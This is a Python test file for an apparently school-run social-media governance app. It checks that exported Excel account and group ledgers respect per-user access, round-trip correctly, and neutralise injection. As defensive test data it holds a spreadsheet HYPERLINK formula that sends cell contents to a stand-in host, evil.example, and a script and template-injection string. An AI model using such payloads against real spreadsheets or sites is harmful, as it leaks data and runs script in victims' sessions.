# Copyright (c) 2026, socialmedia_governance developers and contributors
"""H7.1, S12: the account and group registers as Excel ledgers (台账): row-level access honoured,
a faithful round trip through Excel, and text that can never run as a formula."""

import io

import frappe
from openpyxl import load_workbook

from socialmedia_governance.documents import ledger
from socialmedia_governance.tests.base import SchoolTestCase
from socialmedia_governance.tests.factories import make_account, make_active, make_group

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


class TestLedger(SchoolTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		s = cls.s
		admins = [{"user": s.u("admin_kj"), "admin_role": "Chief Administrator", "phone": "13800000000"}]
		cls.mine = [
			make_active(make_account(s.units["kj_class"], f"会计2301班-{i}", administrators=admins))
			for i in range(3)
		]
		cls.hostile = make_account(s.units["kj_class"], FORMULA)
		cls.script = make_account(s.units["kj_class"], "<script>alert(1)</script>{{ 7*7 }}")
		cls.theirs = make_active(make_account(s.units["xx_class"], "信息2301班公众号"))
		cls.group = make_active(
			make_group(s.units["kj_class"], s.u("owner_kj"), "会计2301班级群", member_count=45)
		)
		cls.units = [s.units["kj_class"], s.units["xx_class"]]

	def export(self, doctype, filters=None):
		ledger.export_ledger(doctype, filters)
		self.assertEqual(frappe.local.response.type, "download")
		self.assertTrue(frappe.local.response.filename.endswith(".xlsx"))
		return frappe.local.response.filecontent

	def rows(self, content):
		return ledger.read_back(content)

	def test_s12_counsellor_exports_only_her_classes(self):
		frappe.set_user(self.s.u("fdy_kj"))
		rows = self.rows(self.export("Social Media Account"))
		names = {r[-1] for r in rows[1:]}
		self.assertTrue({a.name for a in self.mine} | {self.hostile.name, self.script.name} <= names)
		self.assertNotIn(self.theirs.name, names)
		self.assertEqual(
			names, set(frappe.get_list("Social Media Account", pluck="name", limit_page_length=0))
		)
		frappe.set_user(self.s.u("fdy_xx"))
		names = {r[-1] for r in self.rows(self.export("Social Media Account"))[1:]}
		self.assertIn(self.theirs.name, names)
		self.assertNotIn(self.mine[0].name, names)

	def test_h7_1_account_ledger_round_trips_through_excel(self):
		content = self.export(
			"Social Media Account", [["Social Media Account", "owner_unit", "in", self.units]]
		)
		wb = load_workbook(io.BytesIO(content))
		ws = wb.active
		self.assertEqual(ws.freeze_panes, "A2")
		self.assertEqual(ws.auto_filter.ref, f"A1:S{ws.max_row}")
		self.assertGreater(ws.column_dimensions["E"].width, 20)
		rows = [list(r) for r in ws.iter_rows(values_only=True)]
		header = rows[0]
		for heading in (
			"序号",
			"主办单位",
			"级别",
			"平台",
			"账号名称",
			"管理员",
			"第一责任人",
			"监管人",
			"备案号",
			"状态",
			"开通日期",
			"最近年检结果",
		):
			self.assertIn(heading, header)
		col = {h: i for i, h in enumerate(header)}
		by_name = {r[-1]: r for r in rows[1:]}
		self.assertEqual(len(by_name), 6)
		self.assertEqual([r[0] for r in rows[1:]], list(range(1, 7)))
		for acc in self.mine + [self.theirs]:
			acc.reload()
			row = by_name[acc.name]
			self.assertEqual(row[col["账号名称"]], acc.account_name)
			self.assertEqual(row[col["平台"]], acc.platform)
			self.assertEqual(row[col["级别"]], acc.tier)
			self.assertEqual(row[col["备案号"]], acc.filing_number)
			self.assertEqual(row[col["状态"]], "运行中" if acc.status == "Active" else row[col["状态"]])
			self.assertEqual(
				row[col["主办单位"]], frappe.db.get_value("Organization Unit", acc.owner_unit, "unit_name")
			)
		self.assertEqual(by_name[self.mine[0].name][col["管理员"]], "admin_kj（13800000000）")

	def test_h7_1_formula_and_script_text_stay_text_in_the_ledger(self):
		content = self.export(
			"Social Media Account", [["Social Media Account", "owner_unit", "in", self.units]]
		)
		ws = load_workbook(io.BytesIO(content)).active
		header = [c.value for c in ws[1]]
		name_col = header.index("账号名称") + 1
		cells = {
			ws.cell(row=r, column=len(header)).value: ws.cell(row=r, column=name_col)
			for r in range(2, ws.max_row + 1)
		}
		formula = cells[self.hostile.name]
		self.assertEqual(formula.data_type, "s")
		self.assertEqual(formula.value, "'" + FORMULA)
		script = cells[self.script.name]
		self.assertEqual(script.value, "<script>alert(1)</script>{{ 7*7 }}")  # as typed, not 49, not &lt;
		self.assertEqual(script.data_type, "s")

	def test_h7_1_group_ledger_round_trips(self):
		rows = self.rows(
			self.export("Social Media Group", [["Social Media Group", "owner_unit", "in", self.units]])
		)
		header = rows[0]
		self.assertIn("群名称", header)
		self.assertIn("群主", header)
		row = next(r for r in rows[1:] if r[-1] == self.group.name)
		self.assertEqual(row[header.index("群名称")], "会计2301班级群")
		self.assertEqual(row[header.index("成员人数")], 45)

	def test_other_doctypes_have_no_ledger(self):
		self.assertRaises(frappe.ValidationError, ledger.export_ledger, "User")
